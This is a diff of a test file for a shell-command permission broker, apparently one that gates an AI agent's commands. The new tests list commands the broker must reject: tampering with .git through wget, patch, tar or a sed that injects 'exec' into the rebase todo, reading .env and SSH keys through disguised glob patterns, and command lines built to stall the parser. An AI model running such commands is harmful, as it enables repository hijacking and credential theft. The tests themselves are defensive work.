@@ -151,7 +151,7 @@ test('a rule for a program holds for its other names, and for git with options b
 })
 
 test('another repository is not put in the place of the own one', () => {
-  const one = broker('mv|cp|rm|tar|rsync|unzip|git'.split('|').map((name) => `bash:${name} *=allow`))
+  const one = broker('mv|cp|rm|tar|rsync|unzip|git|patch|wget|sed|tee|cat|ls'.split('|').map((name) => `bash:${name} *=allow`))
   for (const text of [
     'mv evil .git',
     'cp -r evil/. .git',
@@ -163,9 +163,22 @@ test('another repository is not put in the place of the own one', () => {
     'git --git-dir=evil status',
     'git --git-dir evil status',
     'git --bare log',
+    'patch -d .git -i x',
+    'wget -N -P .git https://x/config',
+    'cd .git && tar xf ../x',
+    'cd .git && wget -N https://x/config',
+    'cd src/../.git; unzip -o ../x',
+    'cp x .git/rebase-merge/git-rebase-todo',
+    'sed -i s/pick/exec/ .git/rebase-merge/git-rebase-todo',
+    'tee .git/worktrees/x/commondir',
+    'cp x .git/worktrees/x/config.worktree',
+    'cp -r x .git/worktrees/x',
   ])
     assert.equal(decision(one, bash(text)), 'reject', text)
+  assert.equal(decision(one, bash('tar xf ../x', { command: { text: 'tar xf ../x', cwd: '/p/.git' } })), 'reject')
   for (const text of [
+    'cat .git/HEAD .git/rebase-merge/message',
+    'ls .git .git/worktrees',
     'rm .git/index.lock',
     'rsync -a --exclude=.git a/ b/',
     'tar --exclude .git -cf x.tar .',
@@ -229,4 +242,42 @@ test('a folder does not become a repository by a command, and one that is there 
     'cat src/bare/HEAD',
   ])
     assert.equal(decision(one, bash(text)), 'allow', text)
+})
+
+test('a pattern of a program that is made for a secret counts as its name', () => {
+  const one = broker(['bash=allow', 'write=allow'])
+  for (const text of [
+    "find . -name '.en*' -exec cat {} +",
+    "find . -name '.e[n]v' -exec cat {} +",
+    "find . -path './.en?' -exec cat {} +",
+    "git grep --no-index KEY -- '.en*'",
+    "git log -p -- ':(glob).en*'",
+    "git log -p -- ':(top).env'",
+    "rg --hidden -g '.env*' KEY",
+    "rg --hidden -g'.en*' KEY",
+    "grep -r KEY . --include='.en*'",
+    "tar cf - --wildcards '*/.ss?/id_r*'",
+    'git commit -F "$(echo .env)"',
+    'git tag -F "$X" v1',
+  ])
+    assert.equal(decision(one, bash(text)), 'reject', text)
+  for (const text of [
+    "find . -not -path '*/.*' -name '*.json' -exec cat {} +",
+    "find . -name '.*' -prune -o -name '*.ts' -print",
+    "rg --hidden -g '!.git' -g '*.json' x",
+    "rg -g '!.env*' x",
+    "grep -rn x . --include='*.{ts,json}' --exclude='.env*'",
+    "git diff -- '*.json' ':!*.lock'",
+    "find . -name '.eslintrc*'",
+    "find . -name 'id*.ts'",
+  ])
+    assert.equal(decision(one, bash(text)), 'allow', text)
+})
+
+test('a command line that is made to be slow is judged in time', () => {
+  const one = broker(['bash:go *=allow', 'bash:ls *=allow', 'bash:grep *=allow', 'bash:awk *=allow', 'bash:npm *=allow'])
+  const begin = performance.now()
+  for (const text of [`go build -ldflags '${'-s"'.repeat(400)}!'`, `${'ls|'.repeat(15_000)}ls`, `ls|${'grep x|'.repeat(8000)}ls`])
+    assert.equal(decision(one, bash(text)), 'reject')
+  assert.ok(performance.now() - begin < 5000)
 })
